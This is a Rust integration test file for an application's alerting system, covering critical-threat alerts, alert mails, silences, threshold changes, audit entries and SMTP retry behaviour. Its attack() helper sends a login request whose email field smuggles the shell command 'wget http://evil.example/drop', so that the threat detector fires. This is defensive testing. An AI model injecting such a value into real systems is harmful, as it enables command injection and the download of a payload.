//! Alerts from the refusal at the gate to the mail in the folder or at the server.

mod post_office;

use std::{fs, net::Ipv4Addr};

use data::{Actor, NewJob};
use jiff::SignedDuration;
use serde_json::{Value, json};
use server::config::Config;
use sqlx::{Connection, PgConnection};
use tempfile::TempDir;
use web::Routes;

use crate::{
    app::{TestApp, unique_email},
    client::Client,
};
use post_office::PostOffice;

const THREATS: &str = "critical_threats";

/// The application, its state folder, and an admin of it.
struct Scene {
    app: TestApp,
    state: TempDir,
    admin: Client,
    email: String,
}

impl Scene {
    async fn start() -> Self {
        Self::start_with(|_| {}).await
    }

    async fn start_with(change: impl FnOnce(&mut Config)) -> Self {
        let state = TempDir::new().unwrap();
        let folder = state.path().to_owned();
        let change = |config: &mut Config| {
            config.server.state_dir = folder;
            config.accounts.access_token_seconds = 36_000;
            change(config);
        };
        let app = TestApp::start_with(change, Routes::new("")).await;
        let email = unique_email();
        let scene = Self { admin: app.admin_called(&email).await, app, state, email };
        // The first look plans the next ones.
        scene.look(0).await;
        scene.look(15).await;
        assert_eq!(scene.alert(THREATS).await["state"], "normal");
        scene
    }

    /// Lets seconds pass, then everything that is due run.
    async fn look(&self, seconds: i64) {
        self.app.pass(SignedDuration::from_secs(seconds));
        self.app.app.log.flush().await.unwrap();
        self.app.app.jobs.run_due().await.unwrap();
    }

    async fn alert(&self, key: &str) -> Value {
        let alerts = self.admin.get("/admin/alerts").await.expect(200);
        alerts["items"].as_array().unwrap().iter().find(|alert| alert["key"] == key).unwrap().clone()
    }

    async fn states(&self, key: &str) -> Vec<String> {
        let history = self.admin.get(&format!("/admin/alerts/{key}/history?limit=100")).await.expect(200);
        let items = history["items"].as_array().unwrap();
        items.iter().rev().map(|item| item["to"].as_str().unwrap().to_owned()).collect()
    }

    /// Something that only an attack sends.
    async fn attack(&self) {
        let body = json!({"email": "a; wget http://evil.example/drop", "password": "x"});
        let answer = self.app.guest_from("203.0.113.77").post("/auth/login", &body).await;
        assert!(answer.status.is_client_error(), "{}", answer.text);
    }

    /// The mails in the folder, oldest first.
    fn mails(&self) -> Vec<String> {
        let Ok(folder) = fs::read_dir(self.state.path().join("mail")) else { return Vec::new() };
        let mut files: Vec<_> = folder.map(|entry| entry.unwrap().path()).collect();
        files.sort();
        files.iter().map(|file| fs::read_to_string(file).unwrap()).collect()
    }

    /// State and last error of the jobs of a kind.
    async fn jobs(&self, kind: &str) -> Vec<(String, Option<String>)> {
        sqlx::query_as("SELECT state, last_error FROM jobs.queue WHERE kind = $1")
            .bind(kind)
            .fetch_all(&mut self.eye().await)
            .await
            .unwrap()
    }

    async fn eye(&self) -> PgConnection {
        PgConnection::connect_with(&self.app.database.address().bootstrap().unwrap()).await.unwrap()
    }
}

#[tokio::test]
async fn a_critical_threat_is_told_once_and_its_end_once() {
    let scene = Scene::start().await;
    assert!(scene.mails().is_empty());
    scene.attack().await;
    scene.look(15).await;
    let alert = scene.alert(THREATS).await;
    assert_eq!((&alert["state"], &alert["last_value"]), (&json!("firing"), &json!(1.0)), "{alert}");
    assert_eq!(alert["since"], "2026-01-15T12:00:30Z");
    let [mail] = &scene.mails()[..] else { panic!("one mail: {:?}", scene.mails()) };
    for part in [
        format!("To: {}\r\n", scene.email),
        "Subject: [Mainstay] critical_threats fires\r\n".into(),
        "Date: Thu, 15 Jan 2026 12:00:30 -0000\r\n".into(),
        "Value:      1 requests in the last minute or two; bad from 1 on\r\n".into(),
        "/api/v1/admin/alerts/critical_threats/history".into(),
    ] {
        assert!(mail.contains(&part), "{part}: {mail}");
    }
    for secret in ["203.0.113.77", "drop", "evil", "auth/login"] {
        assert!(!mail.contains(secret), "{secret}: {mail}");
    }
    // It goes on, flaps, is looked at twice in the same moment: still one.
    for seconds in [0, 15, 60, 60, 15] {
        scene.attack().await;
        scene.look(seconds).await;
        scene.look(0).await;
    }
    assert_eq!(scene.mails().len(), 1);
    // Two minutes until the counter is behind, five of peace.
    for _ in 0..8 {
        scene.look(60).await;
    }
    assert_eq!(scene.alert(THREATS).await["state"], "normal");
    assert_eq!(scene.states(THREATS).await, ["normal", "firing", "recovering", "normal"]);
    let mails = scene.mails();
    assert_eq!(mails.len(), 2);
    assert!(mails[1].contains("is normal again") && mails[1].contains("Fired from: 2026-01-15T12:00:30Z"));
    // Another time it is told again.
    scene.attack().await;
    scene.look(15).await;
    assert_eq!(scene.mails().len(), 3);
}

#[tokio::test]
async fn a_silence_mutes_the_mail_and_nothing_else() {
    let scene = Scene::start().await;
    let until = "2026-01-15T13:00:00Z";
    let asked = json!({"rule": THREATS, "until": until, "reason": "A drill"});
    let made = scene.admin.post("/admin/alerts/silences", &asked).await.expect(201);
    assert_eq!((&made["from"], &made["until"]), (&json!("2026-01-15T12:00:15Z"), &json!(until)));
    assert_eq!((&made["reason"], &made["made_by"]), (&json!("A drill"), &json!(scene.admin.user)));
    let listed = scene.admin.get("/admin/alerts/silences").await.expect(200);
    assert_eq!(listed["items"], json!([made]));
    scene.attack().await;
    scene.look(15).await;
    let alert = scene.alert(THREATS).await;
    assert_eq!((&alert["state"], &alert["silenced"]), (&json!("firing"), &json!(true)));
    assert!(scene.mails().is_empty());
    // It is ended while the alert fires.
    let path = format!("/admin/alerts/silences/{}", made["id"].as_str().unwrap());
    scene.admin.delete(&path).await.expect(200);
    scene.admin.delete(&path).await.refused(404, "NOT_FOUND");
    assert_eq!(scene.admin.get("/admin/alerts/silences").await.expect(200)["items"], json!([]));
    scene.look(15).await;
    assert_eq!(scene.mails().len(), 1);
    for (body, field) in [
        (json!({"rule": "nothing", "until": until, "reason": "x"}), "rule"),
        (json!({"until": until, "reason": "x"}), "rule"),
        (
            json!({"rule": THREATS, "label": {"name": "kind", "value": "jobs"}, "until": until, "reason": "x"}),
            "rule",
        ),
        (json!({"label": {"name": "kind", "value": "x"}, "until": until, "reason": "x"}), "label"),
        (json!({"rule": THREATS, "until": "2026-01-15T12:00:00Z", "reason": "x"}), "until"),
        (json!({"rule": THREATS, "until": "2027-01-15T12:00:00Z", "reason": "x"}), "until"),
        (json!({"rule": THREATS, "until": "soon", "reason": "x"}), "until"),
        (json!({"rule": THREATS, "until": until, "reason": " \n"}), "reason"),
        (json!({"rule": THREATS, "until": until}), "reason"),
    ] {
        let (path, _) = scene.admin.post("/admin/alerts/silences", &body).await.wrong_field();
        assert_eq!(path, field, "{body}");
    }
}

#[tokio::test]
async fn an_admin_sets_thresholds_and_leaves_a_trace() {
    let scene = Scene::start().await;
    let path = "/admin/alerts/critical_threats";
    let change = json!({"threshold": 2, "for_seconds": 0, "keep_seconds": 60});
    let alert = scene.admin.patch(path, &change).await.expect(200);
    assert_eq!((&alert["threshold"], &alert["keep_seconds"]), (&json!(2.0), &json!(60)));
    scene.attack().await;
    scene.look(15).await;
    assert_eq!(scene.alert(THREATS).await["state"], "normal", "one is not enough now");
    scene.attack().await;
    scene.look(15).await;
    assert_eq!(scene.alert(THREATS).await["state"], "firing");
    let off = scene.admin.patch(path, &json!({"enabled": false})).await.expect(200);
    assert_eq!((&off["enabled"], &off["state"]), (&json!(false), &json!("normal")));
    let shipped = json!({"enabled": null, "threshold": null, "for_seconds": null, "keep_seconds": null});
    let alert = scene.admin.patch(path, &shipped).await.expect(200);
    assert_eq!(
        (&alert["enabled"], &alert["threshold"], &alert["keep_seconds"]),
        (&json!(true), &json!(1.0), &json!(300))
    );
    let audit = scene.admin.get("/admin/audit?target=rule:critical_threats").await.expect(200);
    let entries = audit["items"].as_array().unwrap();
    assert_eq!(entries.len(), 3);
    assert_eq!(entries[2]["details"]["to"]["threshold"], 2.0);
    assert_eq!(entries[2]["actor"], format!("user:{}", scene.admin.user));

    for (body, field) in [
        (json!({"threshold": "much"}), "threshold"),
        (json!({"threshold": 1e300}), "threshold"),
        (json!({"for_seconds": -1}), "for_seconds"),
        (json!({"keep_seconds": 86_401}), "keep_seconds"),
        (json!({"severity": "warning"}), "severity"),
    ] {
        assert_eq!(scene.admin.patch(path, &body).await.wrong_field().0, field, "{body}");
    }
    scene.admin.patch("/admin/alerts/nothing", &json!({})).await.refused(404, "NOT_FOUND");
    scene.admin.get("/admin/alerts/nothing/history").await.refused(404, "NOT_FOUND");
    scene
        .admin
        .get("/admin/alerts/critical_threats/history?cursor=x")
        .await
        .refused(422, "VALIDATION_FAILED");
    for (caller, status, code) in [
        (scene.app.guest(), 401, "AUTHENTICATION_REQUIRED"),
        (scene.app.user().await, 403, "PERMISSION_DENIED"),
    ] {
        caller.get("/admin/alerts").await.refused(status, code);
        caller.patch(path, &json!({"enabled": false})).await.refused(status, code);
    }
    assert_eq!(scene.alert(THREATS).await["enabled"], true);
}

#[tokio::test]
async fn each_admin_of_the_business_has_a_mail_of_their_own_and_nobody_else() {
    let scene = Scene::start().await;
    let (second, gone) = (unique_email(), unique_email());
    scene.app.admin_called(&second).await;
    let leaver = scene.app.admin_called(&gone).await;
    let inactive = json!({"is_active": false});
    scene.admin.patch(&format!("/admin/users/{}", leaver.user), &inactive).await.expect(200);
    let (_user, _stranger) = (scene.app.user().await, scene.app.foreign_admin().await);
    scene.attack().await;
    scene.look(15).await;
    let mut to: Vec<String> = scene.mails().iter().map(|mail| recipient(mail)).collect();
    let mut expected = [scene.email.clone(), second];
    to.sort();
    expected.sort();
    assert_eq!(to, expected);
}

fn recipient(mail: &str) -> String {
    mail.lines().find_map(|line| line.strip_prefix("To: ")).unwrap().to_owned()
}

#[tokio::test]
async fn every_shipped_rule_measures_what_happens() {
    let scene = Scene::start().await;
    let patch = json!({"threshold": 3, "for_seconds": 0});
    scene.admin.patch("/admin/alerts/many_refusals", &patch).await.expect(200);
    // A job that nobody takes, another that was given up, a flood that did not fit, some refusals.
    let mut unit =
        scene.app.installation.database.unit(scene.app.database.scope(Actor::Operator)).await.unwrap();
    unit.enqueue(NewJob::new("test.nobody", ()));
    unit.enqueue(NewJob::new("test.hopeless", ()));
    unit.commit(()).await.unwrap();
    let mut eye = scene.eye().await;
    sqlx::query("UPDATE jobs.queue SET state = 'failed', failures = 12 WHERE kind = 'test.hopeless'")
        .execute(&mut eye)
        .await
        .unwrap();
    let now = scene.app.clocks.real.now();
    sqlx::query(
        "INSERT INTO record.security_events (tenant_id, minute, reason, address, route, times)
         VALUES ($1, date_trunc('minute', $2::timestamptz), $3, $4::inet, '', 7)",
    )
    .bind(scene.app.database.tenant().uuid())
    .bind(jiff_sqlx::ToSqlx::to_sqlx(now))
    .bind(record::DROPPED)
    .bind(Ipv4Addr::UNSPECIFIED.to_string())
    .execute(&mut eye)
    .await
    .unwrap();
    for _ in 0..3 {
        scene.app.guest().get("/users/me").await.refused(401, "AUTHENTICATION_REQUIRED");
    }
    scene.look(45).await;
    for (key, state, value) in [
        (THREATS, "normal", json!(0.0)),
        ("events_dropped", "firing", json!(7.0)),
        ("jobs_given_up", "firing", json!(1.0)),
        ("jobs_late", "normal", json!(45.0)),
        ("many_refusals", "firing", json!(10.0)),
    ] {
        let alert = scene.alert(key).await;
        assert_eq!((&alert["state"], &alert["last_value"]), (&json!(state), &value), "{alert}");
    }
    scene.look(270).await;
    assert_eq!(scene.alert("jobs_late").await["state"], "pending");
    scene.look(60).await;
    assert_eq!(scene.alert("jobs_late").await["state"], "firing");
    assert_eq!(scene.mails().len(), 1, "the flood alone is critical");
}

#[tokio::test]
async fn a_mail_that_the_server_cannot_take_yet_is_sent_again_under_the_same_name() {
    let office = PostOffice::open(&["RCPT 451", "."]).await;
    let scene = Scene::start_with(|config| office.configure(config)).await;
    scene.attack().await;
    scene.look(15).await;
    assert_eq!(scene.jobs("alerts.deliver").await, [("ready".into(), Some("MAIL".into()))], "busy");
    // It takes the text, then dies before it says so.
    scene.look(30).await;
    assert_eq!(scene.jobs("alerts.deliver").await, [("ready".into(), Some("MAIL".into()))], "dead");
    scene.look(60).await;
    assert_eq!(scene.jobs("alerts.deliver").await, []);
    let names = office.heard("Message-ID: ");
    assert_eq!(names.len(), 2);
    assert_eq!(names[0], names[1], "to whoever sorts mail they are one");
    assert!(scene.mails().is_empty(), "the folder is for installations without a server");
}

#[tokio::test]
async fn a_mail_that_is_refused_for_good_stays_as_a_dead_letter() {
    let office = PostOffice::open(&["RCPT 550"]).await;
    let scene = Scene::start_with(|config| office.configure(config)).await;
    scene.attack().await;
    scene.look(15).await;
    assert_eq!(scene.jobs("alerts.deliver").await, [("failed".into(), Some("MAIL_REFUSED".into()))]);
    scene.look(15).await;
    assert_eq!(scene.alert("jobs_given_up").await["state"], "firing");
    assert_eq!(office.heard("RCPT").len(), 1, "it is not tried again");
}
